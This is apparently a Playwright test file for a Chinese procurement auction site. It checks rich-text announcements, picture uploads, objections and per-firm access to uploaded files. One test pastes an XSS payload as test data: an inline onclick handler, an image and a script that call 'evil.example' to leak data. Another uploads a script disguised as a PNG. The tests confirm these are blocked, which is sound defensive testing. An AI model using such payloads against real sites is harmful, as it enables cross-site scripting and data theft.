import { type Browser, expect, type Locator, type Page } from 'playwright/test'
import { award, button, details, file, review, tab } from './awarding.ts'
import { test as mortal } from './mortal.ts'
import { anAuction, hall, signIn, test } from './people.ts'

/** What is written in a tender with forms and pictures: announcements, objections and their answers. */

const PICTURE = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEElEQVR42mMQqTgBRwzEcQAdkhVBoiBG3gAAAABJRU5ErkJggg==',
  'base64',
)
const png = (name: string, buffer = PICTURE) => ({ name, mimeType: 'image/png', buffer })

/** Pastes what another program has put into the clipboard. */
const paste = (field: Locator, html: string, text: string) =>
  field.evaluate(
    (box, { html, text }) => {
      const clipboardData = new DataTransfer()
      clipboardData.setData('text/html', html)
      clipboardData.setData('text/plain', text)
      box.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
    },
    { html, text },
  )

async function addPicture(page: Page, dialog: Locator, picture: { name: string; mimeType: string; buffer: Buffer }) {
  const chooser = page.waitForEvent('filechooser')
  await button(dialog, /^(图片|Picture)$/).click()
  await (await chooser).setFiles(picture)
}

/** Whether every picture within is there, and no other one. */
const pictures = (place: Locator) =>
  place
    .locator('img')
    .evaluateAll((all) =>
      all.map((image) => (image as HTMLImageElement).naturalWidth > 0 && new URL((image as HTMLImageElement).src).protocol),
    )

/** Every address that a page asks for beside its own. */
function foreignAsks(page: Page, own: string): string[] {
  const asked: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(own) && /^https?:/.test(request.url())) asked.push(request.url())
  })
  return asked
}

test('WID-02 TEND-25 an announcement with forms, a pasted text and a picture is read as it was written, and asks nobody else for anything', async ({
  browser,
  baseURL,
  faults,
}) => {
  // A handler in what is pasted is nobody's to run: the browser says so.
  faults.expect(/inline event handler/)
  const projectId = await anAuction({ durationSec: 600 })
  const bidder = await signIn(browser, 'sup2', hall(projectId))
  const buyer = await signIn(browser, 'buyer1', hall(projectId))
  const asked = [foreignAsks(bidder, baseURL!), foreignAsks(buyer, baseURL!)]
  await button(buyer, /^发布消息$/).click()
  const dialog = buyer.getByRole('dialog', { name: /^发布消息$/ })
  const field = dialog.getByRole('textbox')
  await expect(field).toBeFocused()
  await button(dialog, /^加粗$/).click()
  await buyer.keyboard.type('请注意')
  await button(dialog, /^加粗$/).click()
  await buyer.keyboard.type('：技术附件已更新。')
  await paste(
    field,
    '<p onclick="alert(1)">见<i>附表</i></p><table><tr><td>数量</td><td>20</td></tr></table><img src="https://evil.example/leak?x=1"><script>fetch("https://evil.example")</script>',
    '见附表',
  )
  await expect(dialog.getByText(/^粘贴内容中的图片未带入/)).toBeVisible()
  await addPicture(buyer, dialog, png('流程图.png'))
  await expect.poll(() => pictures(field)).toEqual(['blob:'])
  await dialog.locator('footer').getByRole('button').last().click()
  await expect(dialog).toHaveCount(0)

  const said = bidder.getByRole('listitem').filter({ hasText: '请注意' })
  await expect(said.locator('strong', { hasText: '请注意' })).toBeVisible()
  await expect(said.getByRole('cell', { name: '数量' })).toBeVisible()
  await expect.poll(() => pictures(said)).toEqual(['blob:'])
  await bidder.goto(details(projectId))
  await tab(bidder, /^公告与消息/).click()
  const again = bidder.getByRole('listitem').filter({ hasText: '请注意' })
  await expect.poll(() => pictures(again)).toEqual(['blob:'])
  expect(asked).toEqual([[], []])
})

test('WID-02 R-29 what cannot be taken says so at the text, and nothing that was written is lost', async ({ browser, faults }) => {
  faults.expect(/ 422 .*post-upload/)
  const projectId = await anAuction({ durationSec: 600 })
  const buyer = await signIn(browser, 'buyer1', hall(projectId))
  await button(buyer, /^发布消息$/).click()
  const dialog = buyer.getByRole('dialog', { name: /^发布消息$/ })
  const field = dialog.getByRole('textbox')
  await expect(field).toBeFocused()
  await buyer.keyboard.type('已写好的内容')
  // Five megabytes of markup, and of text.
  await paste(field, `<p>${'<b><i>x</i></b>'.repeat(350_000)}</p>`, 'x'.repeat(350_000))
  await expect(dialog.getByText(/^未粘贴：共 350000 字/)).toBeVisible()
  await addPicture(buyer, dialog, png('大图.png', Buffer.concat([PICTURE, Buffer.alloc(2_200_000)])))
  await expect(dialog.getByText('大图.png 超过 2 MB。')).toBeVisible()
  await addPicture(buyer, dialog, { name: '说明.svg', mimeType: 'image/svg+xml', buffer: Buffer.from('<svg/>') })
  await expect(dialog.getByText(/^说明\.svg 不是可显示的图片/)).toBeVisible()
  await addPicture(buyer, dialog, png('假图.png', Buffer.from('<script>alert(1)</script>')))
  await expect(dialog.getByText(/^假图\.png 上传失败：文件内容与扩展名/)).toBeVisible()
  await expect(field).toHaveText('已写好的内容')
  await buyer.keyboard.type('长'.repeat(500))
  await dialog.locator('footer').getByRole('button').last().click()
  await expect(dialog.getByText(/500/).last()).toBeVisible()
  await expect(field).toContainText('已写好的内容')
})

const TEXT = '我方最后一次报价提交时页面提示网络异常，请核查该次报价的受理情况。'

async function contested(browser: Browser, id: string) {
  const buyer = await signIn(browser, 'buyer1', file(id))
  await expect(buyer.getByText(/^监督评审报告尚未签署/)).toBeVisible()
  const supervisor = await review(browser, id, 'zh-CN')
  await award(browser, id, 'zh-CN', buyer, supervisor)
  await supervisor.context().close()
  return buyer
}

mortal('WID-02 TEND-31 an objection with a picture is read and answered with forms; no rival sees either', async ({ browser, mortal }) => {
  const id = await mortal.closed()
  const buyer = await contested(browser, id)
  const rival = await signIn(browser, 'sup3', details(id))
  await tab(rival, /^异议/).click()
  await button(rival, /^提出异议$/).click()
  const dialog = rival.getByRole('dialog')
  await expect(dialog.getByRole('textbox')).toBeFocused()
  await rival.keyboard.type(TEXT)
  const uploaded = rival.waitForResponse(/post-upload/)
  await addPicture(rival, dialog, png('截图.png'))
  const { data } = (await (await uploaded).json()) as { data: { id: string } }
  await expect.poll(() => pictures(dialog.getByRole('textbox'))).toEqual(['blob:'])
  await button(dialog, /^提出异议$/).click()
  await expect(dialog).toHaveCount(0)
  await expect.poll(() => pictures(rival.getByRole('list', { name: /^异议/ }))).toEqual(['blob:'])

  await tab(buyer, /^异议/).click()
  const objections = buyer.getByRole('list', { name: /^异议/ })
  await expect(objections.getByText(TEXT)).toBeVisible()
  await expect.poll(() => pictures(objections)).toEqual(['blob:'])
  await button(buyer, /^答复$/).click()
  const answering = buyer.getByRole('dialog', { name: /^答复异议$/ })
  await expect(answering.getByRole('textbox')).toBeFocused()
  await button(answering, /^编号列表$/).click()
  await buyer.keyboard.type('日志完整')
  await buyer.keyboard.press('Enter')
  await buyer.keyboard.type('该次报价未到达')
  await answering.locator('footer').getByRole('button').last().click()
  await expect(answering).toHaveCount(0)
  await expect(rival.getByRole('list', { name: /^异议/ }).locator('ol > li')).toHaveText(['日志完整', '该次报价未到达'])

  // Another firm of the same tender asks for the picture by its id.
  const other = await signIn(browser, 'sup2', details(id))
  await tab(other, /^异议/).click()
  await expect(other.getByText(TEXT)).toHaveCount(0)
  const sent = other.waitForRequest(/\/tender\/api\/v1\//)
  await other.reload()
  const { authorization = '', ...headers } = await (await sent).allHeaders()
  const customer = Object.fromEntries(Object.entries(headers).filter(([name]) => name.startsWith('x-')))
  const answer = await other.request.get(`${mortal.url}/download/api/v1/download/raw?id=${data.id}`, {
    headers: { ...customer, authorization },
  })
  expect(answer.status()).toBe(404)
})
